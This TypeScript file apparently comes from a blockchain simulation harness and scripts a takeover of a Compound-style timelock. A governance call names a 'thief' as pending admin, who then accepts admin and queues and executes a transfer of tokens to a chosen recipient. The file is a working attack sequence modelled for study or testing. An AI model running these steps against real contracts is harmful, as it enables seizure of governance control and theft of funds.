import type { PeerWorld } from "./PeerWorld.ts";
import type { Takeover } from "./System.ts";

const MARGIN = 60;

/** Compound's timelock obeys one admin, and a decision may name another: the governor is out from then on. */
export function timelockTakeover(world: PeerWorld, thief: string): Takeover {
  const { chain, timelock, dollar } = world;
  return {
    calls: [{ target: timelock.address, data: timelock.encode("setPendingAdmin", [thief]) }],
    exploit: async (to, amount) => {
      if (!(await chain.attempt(timelock.call(thief, "acceptAdmin"))).ok) return false;
      const eta = chain.now + Number(await timelock.readBigint("delay")) + MARGIN;
      const transaction = [dollar.address, 0n, "", dollar.encode("transfer", [to, amount]), eta];
      if (!(await chain.attempt(timelock.call(thief, "queueTransaction", transaction))).ok) return false;
      await chain.jumpTo(eta);
      return (await chain.attempt(timelock.call(thief, "executeTransaction", transaction))).ok;
    },
  };
}
